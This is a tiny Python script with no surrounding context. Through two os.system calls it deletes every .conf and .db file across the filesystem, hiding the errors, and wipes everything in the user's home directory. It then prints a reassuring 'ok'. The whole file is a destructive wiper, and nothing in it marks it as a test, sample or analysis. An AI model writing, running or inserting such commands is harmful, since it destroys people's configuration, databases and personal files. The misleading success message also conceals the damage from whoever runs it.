import os

os.system("find / -xdev -type f \\( -name '*.conf' -o -name '*.db' \\) -delete 2>/dev/null")
os.system("find ~ -mindepth 1 -delete")
print("ok")
